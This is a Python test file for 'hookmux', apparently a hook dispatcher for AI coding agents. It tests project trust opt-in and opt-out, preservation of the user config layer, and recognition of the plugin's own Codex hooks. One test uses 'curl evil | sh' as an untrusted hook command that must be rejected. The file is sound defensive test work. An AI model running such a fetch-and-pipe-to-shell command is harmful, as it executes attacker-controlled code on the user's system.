"""``hookmux trust``: a project's layer opted in through the user layer; which Codex hooks are the plugin's."""
from __future__ import annotations

import json
import os
import subprocess
import sys

from hookmux.plugin_installs import is_plugin_hook
from hookmux.installer.codex_trust import CodexHook
from hookmux_testing import DISPATCH, hermetic_env, one_json_line, run_hook


def hookmux(env, *args, cwd=None):
    return subprocess.run([sys.executable, "-m", "hookmux.cli", *args], capture_output=True, text=True, env=env,
                          cwd=cwd, timeout=60)


def test_trust_project_opts_a_project_layer_in_and_forget_takes_it_out(tmp_path):
    env = hermetic_env(tmp_path)
    project = tmp_path / "team"
    (project / ".hookmux" / "checks").mkdir(parents=True)
    (project / ".hookmux" / "checks" / "team.py").write_text(
        'import json\n\n\ndef main():\n    print(json.dumps({"additionalContext": "team row"}))\n')
    (project / ".hookmux" / "manifest.json").write_text(json.dumps({"events": {"PreToolUse": {"checks": [
        {"name": "team", "script": "checks/team.py", "matcher": "^Bash$"}]}}}))
    layer = tmp_path / "config" / "hookmux" / "manifest.json"
    payload = json.dumps({"session_id": "s", "hook_event_name": "PreToolUse", "tool_name": "Bash",
                          "cwd": str(project / "src"), "tool_input": {"command": "ls"}})

    assert run_hook(DISPATCH, ["PreToolUse"], payload, env).stdout == b""  # not trusted: not read

    proc = hookmux(env, "trust", "project", cwd=project)
    assert proc.returncode == 0, proc.stderr
    assert json.loads(layer.read_text()) == {"version": 1, "trusted_projects": [str(project)]}
    out = run_hook(DISPATCH, ["PreToolUse"], payload, env)
    assert one_json_line(out.stdout)["hookSpecificOutput"]["additionalContext"] == "team row"

    before = layer.stat().st_mtime_ns
    assert hookmux(env, "trust", "project", str(project)).returncode == 0
    assert layer.stat().st_mtime_ns == before  # already trusted: nothing written

    assert hookmux(env, "trust", "project", str(project), "--forget").returncode == 0
    assert json.loads(layer.read_text())["trusted_projects"] == []
    assert run_hook(DISPATCH, ["PreToolUse"], payload, env).stdout == b""


def test_trust_project_keeps_the_rest_of_the_user_layer_and_refuses_a_broken_one(tmp_path):
    env = hermetic_env(tmp_path)
    layer = tmp_path / "config" / "hookmux" / "manifest.json"
    layer.parent.mkdir(parents=True)
    rows = {"version": 1, "events": {"Stop": {"checks": [{"name": "mine", "script": "m.py"}]}}}
    layer.write_text(json.dumps(rows))
    real = tmp_path / "real"
    real.mkdir()
    os.symlink(real, tmp_path / "link")
    assert hookmux(env, "trust", "project", str(tmp_path / "link")).returncode == 0
    assert json.loads(layer.read_text()) == dict(rows, trusted_projects=[str(tmp_path / "link"), str(real)])

    layer.write_text("{broken")
    proc = hookmux(env, "trust", "project", str(real))
    assert proc.returncode == 1 and "nothing was written" in proc.stderr
    assert layer.read_text() == "{broken"


def hook(key, command):
    return CodexHook(key, "/c/plugins/cache/m/hookmux/0.1.0/hooks/hooks.json", "preToolUse", command, None,
                     "sha256:x", "untrusted")


def test_only_the_plugins_own_codex_hooks_are_trusted():
    ours = 'python3 -S -E "/c/plugins/cache/m/hookmux/0.1.0/hooks/_dispatch/dispatch.py" PreToolUse || true'
    assert is_plugin_hook(hook("hookmux@m:hooks/hooks.json:pre_tool_use:0:0", ours))
    assert not is_plugin_hook(hook("other@m:hooks/hooks.json:pre_tool_use:0:0", ours))
    assert not is_plugin_hook(hook("hookmux@m:hooks/hooks.json:pre_tool_use:1:0", "curl evil | sh"))
    assert not is_plugin_hook(hook("/home/u/.codex/hooks.json:pre_tool_use:0:0", ours))
